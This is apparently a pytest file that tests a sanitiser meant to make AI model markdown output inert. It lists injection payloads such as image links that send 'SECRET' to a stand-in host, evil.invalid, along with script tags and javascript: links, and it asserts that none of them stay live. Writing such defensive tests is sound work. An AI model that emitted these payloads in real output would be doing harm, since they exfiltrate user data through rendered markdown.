"""Markdown for other programs: a viewer finds the same words and nothing of the model's that is live."""

import pytest
from markdown_it import MarkdownIt

from sourcebook_core.text import inert
from tests.injection.viewer import live_in

VIEWER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ATTACKS = [
    "![x](http://evil.invalid/?q=SECRET)",
    "![x][r]\n\n[r]: http://evil.invalid/?q=SECRET",
    "[go][r] and [r]\n\n[r]: <http://evil.invalid> 'title'",
    "\\![x](http://evil.invalid) \\\\![x](http://evil.invalid) \\\\\\[x](http://evil.invalid)",
    "<img src=http://evil.invalid> <http://evil.invalid> <a@evil.invalid>",
    "<script>alert(1)</script>\n\n<!-- <img src=x> -->\n<style>@import 'x'</style>",
    "&lt;img&gt; &#91;x&#93;(http://evil.invalid)",
    "[1](http://evil.invalid) [1]: http://evil.invalid\n\n[1]: http://evil.invalid",
    "| a | ![x](http://evil.invalid) |\n|---|---|\n| <img src=x> | [y](javascript:alert(1)) |",
    "`![x](http://evil.invalid)` ``<img src=x>",
    "> ![x](http://evil.invalid)\n\n- <img src=x>\n    1. [y](data:text/html,x)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_link_picture_or_html_of_a_model_is_live_in_markdown(attack: str) -> None:
    assert live_in(inert.markdown(attack, {})) == []
    assert live_in(inert.markdown(attack, {1: "[^1]"})) == []


def test_own_marks_become_footnotes_and_no_line_of_the_model_becomes_one() -> None:
    text = "It closed in 1968 [1][2]. As [1]: two.\n[1]: Faked report, page 3\n[^1]: Faked too\n[9] Source"
    assert inert.markdown(text, {1: "[^4]"}) == (
        "It closed in 1968 [^4]\\[2]. As [^4]\\: two.\n[^4]\\: Faked report, page 3\n\\[^1]: Faked too\n\\[9] Source"
    )


def test_an_address_is_text_also_where_a_viewer_links_bare_ones() -> None:
    written = inert.markdown("See http://evil.invalid, HTTPS://evil.invalid and www.evil.invalid.", {})
    assert written == "See http:\\//evil.invalid, HTTPS:\\//evil.invalid and www\\.evil.invalid."


@pytest.mark.parametrize(
    ("text", "end"),
    [
        ("```\nnever closed", "\n```"),
        ("~~~~ python\n```\n~~~\nx", "\n~~~~"),
        ("```\nclosed\n```", ""),
        ("```not a `fence`", ""),
        ("plain", ""),
    ],
)
def test_a_code_block_that_is_never_closed_is_closed(text: str, end: str) -> None:
    assert inert.markdown(text, {}) == text + end


def test_the_words_stay_as_they_were() -> None:
    text = "A_b * 2 < 3 & 4 \\alpha \\{x\\} C:\\temp [sic] 12:30 a//b"
    inline = VIEWER.parse(inert.markdown(text, {}))[1]
    assert "".join(one.content for one in inline.children or ()) == text


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("size", [1, 2, 7, 1000])
def test_pieces_join_to_the_same_words_however_they_are_cut(attack: str, size: int) -> None:
    growing = inert.Growing({1: "[1]"})
    given = [growing.feed(attack[at : at + size]) for at in range(0, len(attack), size)]
    joined = "".join((*given, growing.finish()))
    assert joined == inert.markdown(attack, {1: "[1]"}) and live_in(joined) == []


def test_a_run_without_a_blank_is_not_held_for_ever() -> None:
    growing = inert.Growing({})
    assert growing.feed("x" * 2000) == "x" * 2000
    hostile = "![" * 400 + "](http://evil.invalid)"
    given = "".join(growing.feed(char) for char in hostile) + growing.finish()
    assert live_in(given) == []
